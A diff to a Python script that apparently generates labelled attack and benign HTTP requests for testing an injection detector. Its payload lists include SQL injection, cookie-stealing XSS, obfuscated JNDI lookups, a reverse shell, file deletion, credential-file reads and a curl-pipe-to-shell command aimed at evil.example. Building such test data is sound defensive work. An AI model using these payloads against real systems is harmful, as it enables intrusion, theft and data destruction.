@@ -10,25 +10,30 @@ A = {
  "sqli": ["' OR 1=1--", "' OR '1'='1", "1' UNION SELECT username, password_hash FROM users--",
           "admin'--", "1; DROP TABLE users--", "' AND SLEEP(5)--", "1 AND 1=CONVERT(int,(SELECT @@version))",
           "'; EXEC xp_cmdshell('dir')--", "' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables--",
-          "1' AND extractvalue(1,concat(0x7e,(select database())))--", "\") OR (\"a\"=\"a", "' WAITFOR DELAY '0:0:5'--"],
+          "1' AND extractvalue(1,concat(0x7e,(select database())))--", "\") OR (\"a\"=\"a", "' WAITFOR DELAY '0:0:5'--",
+          "1 UN/**/ION SEL/**/ECT password FROM users", "1' oR 1=1#", "'; SELECT pg_sleep(5)--"],
  "nosqli": [{"$ne": None}, {"$gt": ""}, {"$where": "sleep(1000)"}, {"$regex": ".*"}, {"$where": "this.password.match(/.*/)"},
             {"$nin": ["x"]}, "'; return db.users.find(); var a='", "{\"$where\": \"this.credits == this.debits\"}"],
  "xss": ["<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "<svg onload=alert(1)>",
          "javascript:alert(1)", "\"><script>fetch('//evil.example/'+document.cookie)</script>", "<iframe src=javascript:alert(1)>",
          "<body onload=alert('x')>", "<a href=\"javascript:void(0)\" onclick=\"alert(1)\">x</a>", "<details open ontoggle=alert(1)>",
-         "';alert(String.fromCharCode(88,83,83))//"],
+         "';alert(String.fromCharCode(88,83,83))//", "<ScRiPt>alert(1)</sCrIpT>", "<svg/onload=alert(1)>",
+         "＜script＞alert(1)＜/script＞", "<a href=\"&#106;avascript:alert(1)\">x</a>"],
  "cmdi": ["; cat /etc/passwd", "| id", "`whoami`", "$(curl http://evil.example/x.sh | sh)", "&& ping -c 10 127.0.0.1",
-          "; rm -rf / --no-preserve-root", "|| nc -e /bin/sh evil.example 4444", "; wget http://evil.example/a -O /tmp/a; chmod +x /tmp/a"],
+          "; rm -rf / --no-preserve-root", "|| nc -e /bin/sh evil.example 4444", "; wget http://evil.example/a -O /tmp/a; chmod +x /tmp/a",
+          ";/bin/cat${IFS}/etc/passwd", "127.0.0.1;ls -la"],
  "traversal": ["../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/shadow", "/var/www/../../etc/passwd",
-               "..%2f..%2f..%2fetc%2fpasswd", "file:///etc/passwd", "../../../../proc/self/environ"],
+               "..%2f..%2f..%2fetc%2fpasswd", "file:///etc/passwd", "../../../../proc/self/environ",
+               "..;/..;/etc/passwd", "..%252f..%252fetc%252fpasswd"],
  "ssti": ["{{7*7}}", "${7*7}", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "<%= system('id') %>",
           "{{''.__class__.__mro__[1].__subclasses__()}}", "#{7*7}", "${T(java.lang.Runtime).getRuntime().exec('id')}",
-          "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}"],
+          "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}", "*{7*7}", "${{7*7}}"],
  "ldap": ["*)(uid=*))(|(uid=*", "admin)(&(password=*))", "*)(|(objectClass=*)", "x)(|(cn=*))", "*(|(mail=*))"],
  "crlf": ["foo\r\nSet-Cookie: session=evil", "x\r\nLocation: http://evil.example", "%0d%0aSet-Cookie:%20a=b",
           "a\r\n\r\n<html>injected</html>", "x\nX-Injected: 1"],
  "jndi": ["${jndi:ldap://evil.example/a}", "${jndi:rmi://evil.example:1099/x}", "${${lower:j}ndi:ldap://evil.example/a}",
-          "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/z}", "${jndi:dns://evil.example/q}"],
+          "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/z}", "${jndi:dns://evil.example/q}",
+          "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}"],
 }
 
 B = ["Dinner with Anna", "O'Brien's birthday present", "Rent for March", "Don't forget: it's Sam's turn",
@@ -69,6 +74,27 @@ P = ["alice@example.com", "bob.smith+bank@mail.example.org", "jane_doe@example.n
      "user.name", "first_last", "~alice", "tom&jerry", "R&D", "C++", "C#", "50% off", "a b c", "item #42", "hello world",
      "café", "naïve", "ünïcödé", "en-US", "de_DE", "EUR", "GB29NWBK60161331926819", "+44 20 7946 0958", "main", "beta-2",
      "rc-1", "latest", "stable"]
+
+# Realistic client headers: browsers, mobile apps, SDKs, tools and bots,
+# and Referers with queries and fragments.
+H = [("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36", "https://www.google.com/"),
+     ("Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15", "https://app.example/accounts?tab=history&page=2"),
+     ("Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148", "https://app.example/#/transfers/new"),
+     ("Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.39 Mobile Safari/537.36", "android-app://com.example.bank/"),
+     ("Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0", "https://search.example/?q=bank+transfer+fees&lang=en#results"),
+     ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "https://www.example.com/sitemap.xml"),
+     ("curl/8.10.1", ""), ("Wget/1.24.5", ""), ("HTTPie/3.2.4", ""), ("PostmanRuntime/7.42.0", "https://web.postman.co/workspace/My-Workspace~1234/request/5678"),
+     ("python-requests/2.32.3", ""), ("Go-http-client/2.0", ""), ("okhttp/4.12.0", ""), ("axios/1.7.7", "http://localhost:3000/dashboard"),
+     ("node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", ""), ("Java/21.0.5", ""), ("Apache-HttpClient/5.4 (Java/21)", ""),
+     ("Dart/3.5 (dart:io)", ""), ("ExampleBank/5.12.0 (iPhone15,2; iOS 18.1; Scale/3.00)", ""), ("ExampleBank/5.12.0 (Android 14; SM-S918B; Build/UP1A.231005.007)", ""),
+     ("Stripe/1.0 (+https://stripe.com/docs/webhooks)", ""), ("Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", ""),
+     ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0", "https://login.example.com/oauth2/authorize?client_id=abc&redirect_uri=https%3A%2F%2Fapp.example%2Fcb&state=xyz"),
+     ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36", "https://app.example/reports/2024-Q3?sort=-amount&filter[status]=open"),
+     ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36", "https://docs.example.com/api/v1#section-2.3"),
+     ("grpc-java-netty/1.68.1", ""), ("kube-probe/1.31", ""), ("ELB-HealthChecker/2.0", ""), ("Prometheus/2.55.0", ""), ("Datadog Agent/7.59.0", ""),
+     ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0", "https://app.example/search?q=O%27Brien%20%26%20Sons"),
+     ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.0.0 Safari/537.36", "about:blank"),
+     ("Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.18129; Pro)", ""), ("Zapier", ""), ("insomnia/10.1.1", "")]
 
 out = []
 def add(cls, place, enc, attack, method, path, ctype="", body="", headers=None):
@@ -117,5 +143,7 @@ for p in B:
     placements("benign", p, False)
 for p in P:
     add("benign", "path", "url", False, "GET", "/api/v1/accounts/" + up.quote(p, safe=""))
+for ua, ref in H:
+    add("benign", "header", "raw", False, "GET", "/api/v1/accounts", headers={"User-Agent": ua, "Referer": ref} if ref else {"User-Agent": ua})
 for line in out:
     print(json.dumps(line, ensure_ascii=False))
